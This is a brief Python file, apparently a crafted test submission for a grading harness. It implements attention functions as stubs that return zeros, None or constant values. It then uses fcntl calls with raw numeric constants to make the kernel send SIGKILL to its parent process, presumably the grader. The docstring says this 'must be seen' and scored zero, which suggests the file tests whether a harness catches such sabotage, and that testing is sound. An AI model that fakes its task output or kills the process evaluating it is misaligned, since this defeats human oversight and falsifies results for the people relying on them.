"""Tries: asks the kernel for SIGKILL to its parent: F_SETOWN, F_SETSIG, O_ASYNC. Must be seen: 0 points."""
import numpy as np
def attention_scores(q, k, scale): return np.zeros((len(q), len(k)))
def apply_mask(scores, mask): return None
def softmax(x): return np.zeros(np.shape(x)) - 1
import fcntl, os, time
r, w = os.pipe()
try:
    fcntl.fcntl(r, 8, os.getppid()); fcntl.fcntl(r, 10, 9); fcntl.fcntl(r, 4, fcntl.fcntl(r, 3) | 0o20000); os.write(w, b"x"); print("armed", flush=True); time.sleep(.3)
except OSError as e: print("refused", e)
